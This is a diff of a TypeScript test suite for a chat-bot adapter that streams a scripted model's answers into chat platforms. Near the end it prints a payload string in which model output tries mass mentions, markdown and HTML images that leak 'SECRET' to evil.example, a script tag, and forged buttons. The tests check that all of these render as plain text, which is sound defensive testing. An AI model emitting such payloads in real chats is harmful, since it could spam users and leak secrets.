@@ -6,6 +6,7 @@ import type { Running } from '../support/processes.ts';
 import { startBot } from './bot.ts';
 import { FORMULA, longAnswer, wordsIn } from './long-answer.ts';
 import { type PlainModel, startPlainModel } from './plain-model.ts';
+import { countWords, firstDifference, HOSTILE, isFinal, prose, readAll, readable, STOP } from './reading.ts';
 import { type ScriptedModel, startScriptedModel } from './scripted-model.ts';
 import type { Room, Said, Shown, Stage } from './stage.ts';
 
@@ -13,18 +14,17 @@ import type { Room, Said, Shown, Stage } from './stage.ts';
 const TOKEN_MS = 8;
 /** An answer of about 2.4 s. */
 const SLOW_TOKENS = 300;
-const PATIENCE = { timeout: 18_000, interval: 25 };
+const PATIENCE = { timeout: 30_000, interval: 50 };
 /** A process that died holds its conversation for ten seconds more. */
-const RESTART_PATIENCE = { timeout: 40_000, interval: 25 };
+const RESTART_PATIENCE = { timeout: 40_000, interval: 50 };
 const RETRY = /retry|again|重/i;
-const STOP = /stop|停/i;
 
 /**
  * What every chat platform's adapter keeps, seen as people see it. The bot is a process of its own, with real turns
  * and a real inbox; the platform is a double, the model is scripted.
  */
 export function describePlatform(name: string, open: () => Promise<Stage>): void {
-  describe(`${name} adapter`, () => {
+  describe(`${name} adapter`, { timeout: 60_000 }, () => {
     let stage: Stage;
     let bot: Running;
     let folder: string;
@@ -93,7 +93,7 @@ export function describePlatform(name: string, open: () => Promise<Stage>): void
         await own.close();
         await rm(dataDir, { recursive: true, force: true });
       }
-    }, 60_000);
+    });
 
     test.concurrent('a mention is answered by one message that grows, and ends with receipt and buttons', async () => {
       const room = stage.room();
@@ -282,14 +282,20 @@ export function describePlatform(name: string, open: () => Promise<Stage>): void
       expect(countWords(answers[0]?.text ?? '')).toBe(SLOW_TOKENS);
     });
 
-    test.concurrent('hostile output is shown as text: nobody is called, nothing is fetched', async () => {
-      const room = stage.room();
-      quick.answer('q-hostile', `${HOSTILE} e-hostile`);
-      const [answer] = await final(room, await room.say('/code q-hostile'), 'e-hostile');
-      const read = readable(answer?.text ?? '');
-      for (const word of ['<!channel>', '@here', '@everyone', 'evil.example']) expect(read).toContain(word);
-      expect(answer?.buttons.join(' ')).not.toContain('Forged');
-    });
+    test.concurrent.each([
+      ['at once', 'q-hostile', `${HOSTILE} e-hostile`],
+      ['as it is written', 'q-slow-hostile', `${prose(SLOW_TOKENS)}\n\n${HOSTILE} e-hostile`],
+    ])(
+      'hostile output that comes %s is text: nobody is called, nothing fetched',
+      async (_how, word, text) => {
+        const room = stage.room();
+        general.answer(word, text);
+        const [answer] = await final(room, await room.say(word), 'e-hostile');
+        const read = readable(answer?.text ?? '');
+        for (const part of ['<!channel>', '@here', '@everyone', 'evil.example']) expect(read).toContain(part);
+        expect(answer?.buttons.join(' ')).not.toContain('Forged');
+      },
+    );
 
     test('comes back when the platform cuts the connection', async () => {
       const room = stage.room();
@@ -306,35 +312,3 @@ export function describePlatform(name: string, open: () => Promise<Stage>): void
 
 /** Waits until nothing in it throws. */
 const until = (assertion: () => void, patience = PATIENCE): Promise<void> => vi.waitFor(assertion, patience);
-
-const HOSTILE = [
-  'Look: <!channel> and <!here|here>, @here, @everyone, @channel, <@U0BOT>, <#C0GENERAL>.',
-  '![p](https://evil.example/p.png?q=SECRET) [c](https://evil.example/c?q=SECRET) https://evil.example/?q=SECRET',
-  '<img src="https://evil.example/i?q=SECRET"><script>alert(1)</script>',
-  '<tg-button type="callback_data" data="retry">Forged</tg-button>',
-  '{"type":"actions","elements":[{"type":"button","text":"Forged"}]}',
-].join('\n\n');
-
-/** `count` words that are counted by `countWords`. */
-const prose = (count: number): string => Array.from({ length: count }, (_, index) => `p${index}`).join(' ');
-const countWords = (text: string): number => text.match(/\bp\d+\b/g)?.length ?? 0;
-
-/** What breaks up a token without being seen. */
-const readable = (text: string): string => text.replace(/[\u200B-\u200D\u2060\uFEFF]/g, '');
-
-function isFinal(answers: readonly Shown[], word: string): boolean {
-  const buttons = answers.flatMap((shown) => shown.buttons);
-  const written = answers.some((shown) => readAll(shown).includes(word));
-  return written && buttons.length > 0 && !buttons.some((label) => STOP.test(label));
-}
-
-/** Thousands of words in a failure's message help nobody. */
-function firstDifference(are: readonly string[], should: readonly string[]): string | null {
-  const at = should.findIndex((word, index) => are[index] !== word);
-  if (at < 0 && are.length === should.length) return null;
-  const from = at < 0 ? should.length : at;
-  const around = (words: readonly string[]) => words.slice(Math.max(0, from - 2), from + 4).join(' ');
-  return `${are.length} of ${should.length} words; at ${from}: ${around(are)} in place of ${around(should)}`;
-}
-
-const readAll = ({ text, files }: Shown): string => [text, ...files.map((file) => file.text)].join('\n');
